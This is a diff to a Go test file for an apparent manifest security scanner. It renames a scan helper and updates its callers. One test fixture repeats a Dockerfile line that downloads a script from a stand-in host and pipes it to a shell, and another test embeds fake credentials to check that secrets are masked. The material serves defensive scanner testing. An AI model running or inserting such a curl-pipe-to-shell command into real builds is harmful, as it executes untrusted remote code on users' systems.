@@ -13,8 +13,8 @@ import (
 	"mcpsafe/internal/target"
 )
 
-// scanWith scans a folder with the files given by some rules.
-func scanWith(t *testing.T, files map[string]string, rules ...string) *finding.Report {
+// scanManifests scans a folder with the files given by some rules.
+func scanManifests(t *testing.T, files map[string]string, rules ...string) *finding.Report {
 	t.Helper()
 	dir := t.TempDir()
 	for name, content := range files {
@@ -41,7 +41,7 @@ func scanWith(t *testing.T, files map[string]string, rules ...string) *finding.R
 var aboutManifests = []string{"MCP-073", "MCP-120", "MCP-203", "MCP-207", "MCP-208", "MCP-209", "MCP-240"}
 
 func TestBrokenManifestsAreNamedWithTheirLine(t *testing.T) {
-	r := scanWith(t, map[string]string{
+	r := scanManifests(t, map[string]string{
 		"Dockerfile":                "FROM a:1.2.3\nNOTHING\nRUN 'a\nUSER b\n",
 		".github/workflows/a.yml":   "jobs:\n  a: [\n",
 		"package.json":              "{\n\"scripts\": }",
@@ -74,7 +74,7 @@ func TestHostileManifests(t *testing.T) {
 	for i := range 30 {
 		scripts = append(scripts, fmt.Sprintf(`"%c": "npm run %c && npm run %c"`, 'a'+i%26, 'a'+(i+1)%26, 'a'+(i+2)%26))
 	}
-	r := scanWith(t, map[string]string{
+	r := scanManifests(t, map[string]string{
 		"Dockerfile":              "FROM a\n" + strings.Repeat("RUN curl https://e.example/i | sh\n", 3000),
 		"b/Dockerfile":            "FROM a\nRUN " + strings.Repeat("(", 60_000),
 		"c/Dockerfile":            "FROM a\nENV A=a" + strings.Repeat("\nENV A=$A$A$A$A", 500) + "\nUSER $A\n",
@@ -118,7 +118,7 @@ func TestFingerprintsOfManifestsStay(t *testing.T) {
 	}
 	prints := func() string {
 		var all []string
-		for _, f := range scanWith(t, files, aboutManifests...).Findings {
+		for _, f := range scanManifests(t, files, aboutManifests...).Findings {
 			all = append(all, f.CheckID+" "+f.Fingerprint)
 		}
 		slices.Sort(all)
@@ -144,7 +144,7 @@ func TestFingerprintsOfManifestsStay(t *testing.T) {
 
 // A secret in a recipe is never shown, nor is another in the same line.
 func TestSecretsOfRecipesAreHidden(t *testing.T) {
-	r := scanWith(t, map[string]string{"Dockerfile": "FROM a:1.2.3\nENV API_KEY=b71d0c5e94f2a8360c1e7d4b9f50a2c6 DB_PASSWORD=Tr0ub4dor3horse9x PORT=1\nUSER a\n"}, "MCP-073")
+	r := scanManifests(t, map[string]string{"Dockerfile": "FROM a:1.2.3\nENV API_KEY=b71d0c5e94f2a8360c1e7d4b9f50a2c6 DB_PASSWORD=Tr0ub4dor3horse9x PORT=1\nUSER a\n"}, "MCP-073")
 	if len(r.Findings) != 2 {
 		t.Fatalf("%d findings", len(r.Findings))
 	}
